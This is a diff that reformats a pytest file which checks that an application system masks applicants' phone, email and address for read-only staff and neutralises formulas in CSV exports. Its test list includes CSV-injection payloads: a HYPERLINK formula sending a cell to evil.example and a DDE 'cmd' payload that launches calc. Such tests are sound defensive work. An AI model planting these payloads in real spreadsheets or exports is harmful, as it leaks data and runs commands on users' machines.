@@ -23,8 +23,13 @@ ADDRESS = "北京市东城区景山前街4号院"
 
 @pytest.fixture
 def app(world):
-    return world.application(State.IN_REVIEW, contact_phone=PHONE, contact_email=EMAIL, contact_address=ADDRESS,
-                             postal_code="100009")
+    return world.application(
+        State.IN_REVIEW,
+        contact_phone=PHONE,
+        contact_email=EMAIL,
+        contact_address=ADDRESS,
+        postal_code="100009",
+    )
 
 
 def _root():
@@ -32,8 +37,12 @@ def _root():
 
 
 def _readers(world):
-    return {"supervisor": world.supervisor, "administrator": world.administrator,
-            "district_supervisor": world.district_supervisor, "superuser": _root()}
+    return {
+        "supervisor": world.supervisor,
+        "administrator": world.administrator,
+        "district_supervisor": world.district_supervisor,
+        "superuser": _root(),
+    }
 
 
 def _body(response) -> str:
@@ -58,16 +67,26 @@ def test_it_shows_contact_details_in_full_only_to_the_agencys_case_staff(client,
         client.force_login(user)
         body = _body(client.get(reverse("staff:application_detail", args=[app.pk])))
         assert PHONE not in body and EMAIL not in body and ADDRESS not in body, name
-        assert mask_phone(PHONE) in body and mask_email(EMAIL) in body and mask_address(ADDRESS) in body, name
+        assert (
+            mask_phone(PHONE) in body
+            and mask_email(EMAIL) in body
+            and mask_address(ADDRESS) in body
+        ), name
 
 
 def test_it_masks_contact_details_in_the_api_for_read_only_callers(client, world, app):
     def get(user):
         token = ApiToken.issue(user, "t")[1]
-        return client.get(f"/api/applications/{app.pk}", HTTP_AUTHORIZATION=f"Bearer {token}").json()
+        return client.get(
+            f"/api/applications/{app.pk}", HTTP_AUTHORIZATION=f"Bearer {token}"
+        ).json()
 
     full = get(world.handler)
-    assert (full["contact_phone"], full["contact_email"], full["contact_address"]) == (PHONE, EMAIL, ADDRESS)
+    assert (full["contact_phone"], full["contact_email"], full["contact_address"]) == (
+        PHONE,
+        EMAIL,
+        ADDRESS,
+    )
     for name, user in _readers(world).items():
         data = get(user)
         assert data["contact_phone"] == mask_phone(PHONE), name
@@ -84,12 +103,21 @@ def test_it_masks_contact_details_in_exports_for_read_only_readers(client, world
         body = _body(client.get(reverse("staff:application_export")))
         assert app.number in body and mask_phone(PHONE) in body and PHONE not in body, name
         assert app.id_number not in body, name
-        book = load_workbook(io.BytesIO(b"".join(client.get(reverse("staff:application_export_xlsx")).streaming_content)))
+        book = load_workbook(
+            io.BytesIO(
+                b"".join(client.get(reverse("staff:application_export_xlsx")).streaming_content)
+            )
+        )
         values = {str(c.value) for row in book.active.iter_rows() for c in row}
         assert app.number in values and mask_phone(PHONE) in values and PHONE not in values, name
 
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+]
 
 
 def test_it_neutralises_formulas_in_the_csv_export(client, world):
